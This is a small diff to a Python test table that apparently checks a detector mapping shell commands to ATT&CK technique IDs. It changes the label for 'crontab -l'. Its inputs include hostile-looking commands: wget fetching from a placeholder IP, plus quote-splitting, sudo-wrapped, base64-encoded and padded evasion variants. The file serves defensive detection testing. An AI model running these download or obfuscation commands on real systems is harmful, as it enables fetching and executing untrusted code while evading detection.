@@ -98,7 +98,7 @@ def test_one_bad_file_costs_no_other(tmp_path: Path):
         ("w''get http://203.0.113.1/x", "T1105"),
         ("sudo -u x bash -c 'wget http://203.0.113.1/x'", "T1105"),
         ("echo d2dldCBodHRwOi8vMjAzLjAuMTEzLjEvYQ== | base64 -d", "T1105"),
-        ("crontab -l", "T1053"),
+        ("crontab -l", "T1007"),
         ("a;" * 400 + "wget http://203.0.113.1/x", "T1027"),
     ],
 )
